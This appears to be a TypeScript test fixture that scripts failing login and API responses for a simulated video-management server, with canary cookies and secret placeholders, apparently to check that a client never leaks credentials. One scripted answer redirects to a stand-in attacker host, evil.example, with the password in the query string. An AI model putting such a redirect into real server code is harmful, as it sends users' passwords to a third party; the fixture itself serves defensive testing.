import type { ScriptedAnswer } from "@vms/simulator";

/** Unexpected cookies, which are also secrets. */
export const CANARIES = [
  "made-up-canary-va",
  "made-up-canary-sid",
  "made-up-canary-key",
  "made-up-canary-tfa",
] as const;

/** The headers that set the cookies. */
export const SET_COOKIE: [string, string][] = [
  `va=${CANARIES[0]}; Path=/`,
  `videobank_sessionid=${CANARIES[1]}`,
  `auth_key=${CANARIES[2]}`,
  `tfa_key=${CANARIES[3]}`,
].map((line): [string, string] => ["set-cookie", line]);

const json = { "content-type": "application/json" };
const QUOTE = "<password>, <token>, <code>";

/** A response that is invalid for most vendors. A vendor whose login returns only a token accepts it. */
export const PLAUSIBLE: string = JSON.stringify({ token: "<password>", user: "<password>", metadata: "<code>" });

/** Failing responses to a step of a login. Placeholders in angle brackets are replaced with secrets. */
export function answersToLogin(password: string): ScriptedAnswer[] {
  const quote = JSON.stringify({
    message: QUOTE,
    errors: { password: [`"<password>" is wrong`], "<code>": ["<token>"] },
    desc: QUOTE,
    code: "BAD_PARAM",
    param: "<code>",
  });
  return [
    { status: 500, body: QUOTE },
    { status: 429, headers: { "retry-after": "1" }, body: QUOTE },
    { status: 400, body: quote, headers: json },
    { status: 401, body: quote, headers: json },
    { status: 422, body: quote, headers: json },
    { status: 403, body: quote, headers: json },
    { status: 406, body: quote, headers: json },
    { status: 412, body: quote, headers: json },
    { status: 200, body: `<html>${QUOTE}</html>`, headers: { "content-type": "text/html" } },
    { status: 200, body: `{"token": "${QUOTE}`, headers: json },
    { status: 200, body: PLAUSIBLE },
    { status: 200, body: "<password>".repeat(100_000) },
    { status: 302, headers: { location: `https://evil.example/?p=${password}` } },
    { drop: "before-headers" },
    { drop: "in-body" },
  ];
}

/** Failing responses to a call. */
export function answersToCall(firstCall: string): ScriptedAnswer[] {
  return [
    { drop: "before-headers" },
    { drop: "in-body" },
    { status: 302, headers: { location: "https://127.0.0.1:1/away" } },
    { status: 302, headers: { location: firstCall } },
  ];
}

/** Failing responses to a method that reads the body. */
export const answersToMethod: readonly ScriptedAnswer[] = [
  { status: 403, body: JSON.stringify({ code: "PERMISSION_DENIED", desc: QUOTE }), headers: json },
  { status: 400, body: JSON.stringify({ code: "BAD_PARAM", desc: QUOTE, param: "<token>" }), headers: json },
  { body: JSON.stringify({ "<token>": QUOTE, results: [{ "<token>": 5 }], id: "<token>" }), headers: json },
  { body: `{"token": "${QUOTE}`, headers: json },
];
